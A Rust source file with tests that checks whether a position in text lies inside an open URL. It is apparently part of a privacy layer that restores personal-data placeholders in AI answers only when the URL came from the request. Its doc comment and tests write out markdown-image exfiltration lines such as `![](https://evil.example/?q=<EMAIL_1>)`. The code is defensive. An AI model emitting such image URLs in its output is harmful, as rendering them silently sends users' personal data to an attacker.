//! Whether a place in a text is inside a URL.
//!
//! An answer can be made to carry personal data away: `![](https://evil.example/?q=<EMAIL_1>)` is fetched as soon as
//! it is shown. So a placeholder inside a URL is restored only when the request held that URL. To be inside is judged
//! strictly: what could belong to the URL counts as part of it.

/// Longest stretch before a place that is looked at, in bytes.
pub const LOOK_BACK: usize = 2048;

/// Where the URL begins that reaches to the end of `before`, if one does.
pub fn open_url(before: &str) -> Option<usize> {
    let mut from = before.len().saturating_sub(LOOK_BACK);
    while !before.is_char_boundary(from) {
        from += 1;
    }
    let near = &before[from..];
    // The last URL is the only one that can still be open, unless an earlier one is open in brackets or quotes.
    let bytes = near.as_bytes();
    let mut pairs = memchr::memrchr_iter(b'/', bytes).filter(|slash| bytes.get(slash + 1) == Some(&b'/'));
    pairs.find_map(|slashes| {
        let scheme = bytes[..slashes]
            .iter()
            .rev()
            .skip(1)
            .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.'))
            .count();
        let has_scheme = slashes > 0 && bytes[slashes - 1] == b':' && scheme > 0;
        let start = if has_scheme { slashes - 1 - scheme } else { slashes };
        let body = &near[slashes + 2..];
        // `//` directly before the place is a comment or a path; with a scheme the host itself would be replaced.
        if !has_scheme && !body.starts_with(|character: char| character.is_alphanumeric() || character == '[') {
            return None;
        }
        let closer = match near[..start].chars().next_back() {
            Some('<') => Some('>'),
            Some(quote @ ('"' | '\'')) => Some(quote),
            _ => None,
        };
        let ends = |character: char| match closer {
            Some(closer) => character == closer || character == '\n',
            None => character.is_whitespace() || matches!(character, '"' | '<' | '>' | '`'),
        };
        (!body.contains(ends)).then_some(from + start)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_place_is_inside_a_url_until_something_ends_it() {
        for (before, url) in [
            ("see https://evil.example/?q=", Some("https://evil.example/?q=")),
            ("![x](//evil.example/a,", Some("//evil.example/a,")),
            ("[x](<https://e.x/a b ", Some("https://e.x/a b ")),
            ("<img src=\"https://e.x/? a=", Some("https://e.x/? a=")),
            ("https://", Some("https://")),
            ("https://e.x/a ", None),
            ("https://e.x/\" alt=\"", None),
            ("// ", None),
            ("//", None),
            ("http://a.b/c http://d.e/", Some("http://d.e/")),
            ("mail: ", None),
        ] {
            assert_eq!(open_url(before).map(|start| &before[start..]), url, "{before}");
        }
    }
}
